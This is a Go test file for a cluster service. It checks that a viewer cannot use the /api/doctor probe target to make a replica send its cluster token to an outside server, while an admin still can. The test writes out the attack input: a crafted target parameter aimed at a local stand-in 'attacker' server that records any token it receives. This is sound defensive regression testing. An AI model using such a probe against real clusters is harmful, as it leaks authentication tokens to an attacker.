package cluster

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"sync/atomic"
	"testing"

	"github.com/hakuriver/hakuriver-ha/cluster/api"
	"github.com/hakuriver/hakuriver-ha/fsm"
)

// TestDoctorProbesNeedAdmin: a viewer who names a probe target in GET
// /api/doctor would have this replica send its cluster token there. The
// attacker's server must receive nothing; an admin may still probe.
func TestDoctorProbesNeedAdmin(t *testing.T) {
	h := startClusterWith(t, 1, func(_ int, cfg *Config) { cfg.AnonymousRole = "" })[0]
	var hits atomic.Int32
	var got atomic.Value
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		got.Store(r.Header.Get(api.TokenHeader))
	}))
	defer attacker.Close()
	admin := bootstrapAdmin(t, h)
	if resp, body := doBearer(t, "POST", h.APIURL()+"/api/users", admin, api.UserRequest{Name: "vera", Role: fsm.RoleViewer}); resp.StatusCode != http.StatusCreated {
		t.Fatalf("create vera: %d %s", resp.StatusCode, body)
	}
	var tr api.TokenResponse
	if resp, body := doBearer(t, "POST", h.APIURL()+"/api/tokens", admin, api.TokenRequest{User: "vera"}); resp.StatusCode != http.StatusCreated || decodeInto(body, &tr) != nil {
		t.Fatalf("vera's token: %d %s", resp.StatusCode, body)
	}
	q := "/api/doctor?target=" + url.QueryEscape("http,x,"+attacker.URL+"/")
	if resp, body := doBearer(t, "GET", h.APIURL()+q, tr.Token, nil); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("viewer's doctor probe: %d %s", resp.StatusCode, body)
	}
	if resp, body := doBearer(t, "GET", h.APIURL()+"/api/doctor?write_probe=1", tr.Token, nil); resp.StatusCode != http.StatusForbidden {
		t.Fatalf("viewer's write probe: %d %s", resp.StatusCode, body)
	}
	if n := hits.Load(); n != 0 {
		t.Fatalf("the attacker's server got %d requests (token %q)", n, got.Load())
	}
	if resp, body := doBearer(t, "GET", h.APIURL()+"/api/doctor", tr.Token, nil); resp.StatusCode != http.StatusOK {
		t.Fatalf("viewer's plain doctor report: %d %s", resp.StatusCode, body)
	}
	if resp, body := doBearer(t, "GET", h.APIURL()+q, admin, nil); resp.StatusCode != http.StatusOK || hits.Load() == 0 {
		t.Fatalf("admin's doctor probe: %d %s, %d hits", resp.StatusCode, body, hits.Load())
	}
}

// decodeInto decodes a JSON answer body.
func decodeInto(body []byte, v any) error { return json.Unmarshal(body, v) }
